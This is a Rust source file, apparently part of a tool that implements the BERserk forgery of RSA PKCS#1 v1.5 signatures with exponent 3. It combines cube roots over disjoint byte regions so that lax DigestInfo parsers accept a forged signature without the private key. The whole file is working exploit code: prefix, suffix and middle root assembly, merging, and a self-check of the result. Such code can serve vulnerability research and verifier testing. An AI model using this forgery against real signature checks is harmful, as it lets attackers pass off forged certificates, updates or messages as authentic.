// BERserk signature forgery for e = 3.
//
// The forged signature is built from three roots living in disjoint bytes:
//
//   hi   fixes the top bytes of the cube (padding and outer DigestInfo header)
//   mid  fixes an interior window (large moduli only)
//   lo   fixes the bottom bytes (inner DigestInfo and the digest)
//
// Nothing here needs the private key or even the modulus. The cube of the
// signature is smaller than any modulus of the same width, so the verifier's
// modular reduction never happens and the garbage between the fixed regions
// is skipped by its length parser.

use log::debug;
use num_bigint::BigUint;

use crate::bigint::{occupied, to_be_fixed};
use crate::middle::reconcile_middle;
use crate::prefix::cube_root_prefix;
use crate::suffix::cube_root_suffix;
use crate::template::{self, DigestInfoTemplate};
use crate::{ForgeError, HashKind};

/// Forges a signature over `digest` for a `bit_len` bit RSA key with e = 3.
///
/// The result is `bit_len / 8` bytes, big-endian.
pub fn forge(hash: HashKind, bit_len: usize, digest: &[u8]) -> Result<Vec<u8>, ForgeError> {
    let template = template::lookup(hash, bit_len)?;
    forge_with_template(template, digest)
}

pub fn forge_with_template(
    template: &DigestInfoTemplate,
    digest: &[u8],
) -> Result<Vec<u8>, ForgeError> {
    if digest.len() != template.hash_len {
        return Err(ForgeError::WrongHashLength {
            expected: template.hash_len,
            actual: digest.len(),
        });
    }

    let mut tail = Vec::with_capacity(template.tail_len());
    tail.extend_from_slice(template.suffix);
    tail.extend_from_slice(digest);

    let lo = cube_root_suffix(&tail)?;
    let hi = cube_root_prefix(template.prefix, template.bit_len)?;
    if template.tail_len() > hi.free_bytes {
        return Err(ForgeError::InternalInvariantViolation(format!(
            "suffix needs {} bytes but the prefix root leaves {}",
            template.tail_len(),
            hi.free_bytes
        )));
    }

    let mut parts = vec![("prefix", hi.value.clone()), ("suffix", lo.clone())];
    if template.has_middle() {
        let mid = reconcile_middle(
            &hi,
            &lo,
            template.tail_len(),
            template.middle,
            template.middle_offset,
        )?;
        parts.push(("middle", mid));
    }

    let signature = merge(template.width(), &parts)?;
    check_cube(template, &signature, &tail)?;
    debug!(
        "forged {} bit {} signature with {} root(s)",
        template.bit_len,
        template.hash,
        parts.len()
    );
    Ok(signature)
}

/// ORs the roots together after checking that no two share a byte.
fn merge(width: usize, parts: &[(&'static str, BigUint)]) -> Result<Vec<u8>, ForgeError> {
    let buffers = parts
        .iter()
        .map(|(name, value)| {
            to_be_fixed(value, width).map(|bytes| (*name, bytes)).ok_or_else(|| {
                ForgeError::InternalInvariantViolation(format!(
                    "{name} root doesn't fit in {width} bytes"
                ))
            })
        })
        .collect::<Result<Vec<_>, _>>()?;

    let ranges: Vec<_> = buffers
        .iter()
        .filter_map(|(name, bytes)| occupied(bytes).map(|range| (*name, range)))
        .collect();
    for (i, (name, range)) in ranges.iter().enumerate() {
        for (other_name, other) in &ranges[i + 1..] {
            if range.start < other.end && other.start < range.end {
                return Err(ForgeError::InternalInvariantViolation(format!(
                    "{name} root bytes {range:?} overlap {other_name} root bytes {other:?}"
                )));
            }
        }
    }

    let mut signature = vec![0u8; width];
    for (_, bytes) in &buffers {
        for (out, byte) in signature.iter_mut().zip(bytes) {
            *out |= byte;
        }
    }
    Ok(signature)
}

fn check_cube(
    template: &DigestInfoTemplate,
    signature: &[u8],
    tail: &[u8],
) -> Result<(), ForgeError> {
    let cube = BigUint::from_bytes_be(signature).pow(3);
    let Some(cube) = to_be_fixed(&cube, template.width()) else {
        return Err(ForgeError::InternalInvariantViolation(
            "cube of the signature is wider than the modulus".into(),
        ));
    };

    let mismatch = if !cube.starts_with(template.prefix) {
        Some("prefix")
    } else if !cube.ends_with(tail) {
        Some("suffix")
    } else if template.has_middle() && cube[template.middle_range()] != *template.middle {
        Some("middle")
    } else {
        None
    };

    match mismatch {
        Some(region) => Err(ForgeError::InternalInvariantViolation(format!(
            "cube of the forged signature has the wrong {region} bytes"
        ))),
        None => Ok(()),
    }
}
